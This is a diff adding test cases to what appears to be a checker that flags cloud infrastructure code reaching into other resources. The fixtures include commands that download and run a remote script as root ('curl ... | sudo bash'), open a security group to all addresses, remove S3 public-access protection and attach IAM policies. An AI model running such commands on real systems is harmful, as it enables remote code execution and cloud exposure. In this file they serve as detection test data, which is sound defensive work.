@@ -98,6 +98,9 @@ describe('a resource that another program acts on is told where it reaches into 
     ['kubernetes-aws', '', `resource "kubernetes_service" "m" {\n  spec {\n    type = "LoadBalancer"\n  }\n}\n`],
     ['aws-cli', provisioned('echo done'), provisioned('aws ec2 authorize-security-group-ingress --cidr 0.0.0.0/0')],
     ['aws-cli', '', provisioned('aws --region eu-west-1 s3api delete-public-access-block --bucket x')],
+    ['aws-cli', provisioned('curl -o a https://example.com/a'), provisioned('curl -s https://example.com/a | sudo bash')],
+    ['aws-cli', '', provisioned('bash <(curl -s https://example.com/a)')],
+    ['aws-cli', '', `data "external" "x" {\n  program = ["sh", "-c", "aws iam attach-user-policy --user-name a --policy-arn b"]\n}\n`],
     [
       'nested-stack',
       '',
